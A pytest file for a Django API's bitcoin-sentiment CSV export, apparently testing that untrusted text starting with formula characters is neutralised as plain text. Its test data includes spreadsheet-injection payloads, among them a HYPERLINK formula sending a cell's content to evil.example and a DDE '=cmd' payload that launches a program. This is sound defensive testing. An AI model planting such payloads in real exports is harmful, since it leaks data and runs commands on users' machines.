"""CSV of histories: no text of a stranger is a formula in a spreadsheet, and other formats have it as it is."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from tests.support.api_client import Api
from tests.support.lake_builder import NOON, at, build_lake

ApiOf = Callable[[Path], Api]
PATH = "/api/v1/sentiment/btc/historique"
RANGE = "date_debut=2026-01-10&date_fin=2026-01-11&intervalle=brut"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"win")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2 % for Bitcoin",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
TEXTS = ["Bitcoin = 1", "a-b", "'quoted'", "", "1-2", "\u2212 5 %", "?=1"]


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, module_api_of: ApiOf) -> Client:
    rows: list[dict[str, Any]] = [
        {"event_time": at(seconds=n), "title": text, "source": text, "url": text, "score": -0.25}
        for n, text in enumerate([*FORMULAS, *TEXTS])
    ]
    path = tmp_path_factory.mktemp("lake")
    build_lake(
        path, sentiment=[*rows, {"event_time": at(hours=1), "title": None}], price=[{"event_time": NOON}]
    )
    return module_api_of(path).client


def table_of(client: Client, more: str = "") -> list[dict[str, str]]:
    response = client.generic("GET", PATH, QUERY_STRING=f"{RANGE}&format=csv{more}")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("more", ["", "&limite=50000"])
def test_text_that_would_be_a_formula_is_text_in_every_column(client: Client, more: str) -> None:
    table = table_of(client, more)
    for column in ("title", "source", "url"):
        assert [row[column] for row in table[: len(FORMULAS)]] == [f"'{text}" for text in FORMULAS]
        assert [row[column] for row in table[len(FORMULAS) : -1]] == TEXTS
    assert table[-1]["title"] == ""


def test_negative_numbers_stay_numbers(client: Client) -> None:
    assert {row["score"] for row in table_of(client)[:-1]} == {"-0.25"}


def test_no_cell_begins_a_formula(client: Client) -> None:
    for row in table_of(client):
        texts = {name: cell for name, cell in row.items() if name != "score"}
        assert [cell for cell in texts.values() if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")] == []


def test_other_formats_have_the_text_as_it_is(client: Client) -> None:
    points = client.generic("GET", PATH, QUERY_STRING=RANGE).json()["points"]
    assert [point["title"] for point in points[:-1]] == [*FORMULAS, *TEXTS]
